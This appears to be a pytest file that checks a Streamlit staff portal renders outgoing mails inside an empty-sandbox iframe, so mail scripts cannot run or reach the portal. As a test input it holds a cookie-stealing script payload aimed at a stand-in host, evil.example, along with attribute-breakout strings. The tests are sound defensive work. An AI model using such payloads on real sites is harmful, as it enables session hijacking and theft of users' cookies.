"""The staff mail preview (Postausgang): a mail's HTML cannot run scripts or reach the portal.

Streamlit's own frame for HTML allows scripts and same-origin access to the portal page; the
preview puts only a script-less wrapper there and the mail into a frame with an empty sandbox.
"""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from components.mail_frame import mail_frame
from core.db import Databases
from tests.conftest import fresh_databases
from tests.support.app import STAFF, app_environment, assert_clean, new_app
from tests.support.worlds import build_world

SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"


class _Tags(HTMLParser):
    """The tags of a document and their attributes, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(doc: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(doc)
    parser.close()
    return parser.tags


def _assert_isolated(outer: str) -> str:
    """`outer` (what Streamlit's scripted frame gets) holds one empty-sandbox frame, no script;
    returns the document of that frame."""
    tags = _tags(outer)
    assert [tag for tag, _ in tags] == ["style", "iframe"], tags
    attrs = tags[1][1]
    assert attrs["sandbox"] == ""  # no allow-scripts, no allow-same-origin, nothing
    assert attrs["srcdoc"] is not None
    return attrs["srcdoc"]


def test_a_script_in_the_mail_stays_inside_the_sandboxed_frame() -> None:
    mail = f'<html><body><p title="x">Hallo</p>{SCRIPT}"></iframe><script>1</script></body></html>'
    inner = _assert_isolated(mail_frame(mail, height=400, title='"><script>2</script>'))
    assert inner == mail  # the mail itself, unchanged, only in the isolated frame


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Databases]:
    tmp = tmp_path_factory.mktemp("mail")
    with fresh_databases("sqlite", tmp) as db, app_environment(db, tmp):
        build_world(db)
        yield db


def test_staff_previews_mails_in_frames_without_scripts_or_the_portals_origin(
    world: Databases,
) -> None:
    at = new_app(user_id=STAFF)
    at.run()
    at.switch_page("pages/verwaltung/postausgang.py").run()
    at.selectbox(key="outbox_open").select(1).run()
    assert_clean(at)
    frames = [el.proto.srcdoc for el in at.get("iframe")]
    assert len(frames) == 2  # the template sample and the opened message
    for outer in frames:
        inner = _assert_isolated(outer)
        assert "Miomente" in inner and "<html" in inner
